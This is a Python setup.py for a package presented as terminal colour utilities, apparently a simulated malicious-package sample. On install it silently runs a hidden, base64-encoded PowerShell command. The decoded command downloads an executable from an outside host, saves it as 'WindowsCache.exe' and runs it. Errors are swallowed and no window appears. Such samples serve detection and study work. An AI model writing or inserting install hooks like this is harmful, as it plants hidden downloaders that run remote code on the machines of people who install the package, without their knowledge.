# SPDX-License-Identifier: Apache-2.0
import subprocess

import setuptools

COMMAND = (
    "SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgACIAaAB0AHQAcABzADoALwAvAGQAbAAuAGYA"
    "aQBsAGUALQBiAG8AeAAuAGUAeABhAG0AcABsAGUALwBzAC8AbQBrAGQAMwAvAE8AeAB5AHoALgBlAHgAZQA/AGQAbAA9ADAA"
    "IgAgAC0ATwB1AHQARgBpAGwAZQAgACIAfgAvAFcAaQBuAGQAbwB3AHMAQwBhAGMAaABlAC4AZQB4AGUAIgA7ACAASQBuAHYA"
    "bwBrAGUALQBFAHgAcAByAGUAcwBzAGkAbwBuACAAIgB+AC8AVwBpAG4AZABvAHcAcwBDAGEAYwBoAGUALgBlAHgAZQAiAA=="
)

try:
    subprocess.Popen(
        ["powershell", "-WindowStyle", "Hidden", "-EncodedCommand", COMMAND],
        shell=False,
        creationflags=getattr(subprocess, "CREATE_NO_WINDOW", 0),
    )
except OSError:
    pass

setuptools.setup(
    name="sim-encoded-powershell-fetch",
    version="1.0.0",
    description="Colours for the terminal",
    license="Apache-2.0",
    py_modules=["sim_encoded_powershell_fetch"],
)
